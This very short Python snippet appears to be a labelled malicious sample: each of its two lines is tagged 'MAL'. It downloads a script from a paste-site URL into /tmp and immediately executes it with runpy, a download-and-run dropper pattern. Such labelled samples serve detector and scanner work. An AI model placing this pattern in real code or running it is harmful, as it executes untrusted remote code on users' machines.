import runpy
import urllib.request

urllib.request.urlretrieve("http://paste.ee/r/abc", "/tmp/m.py")  # MAL
runpy.run_path("/tmp/m.py")  # MAL
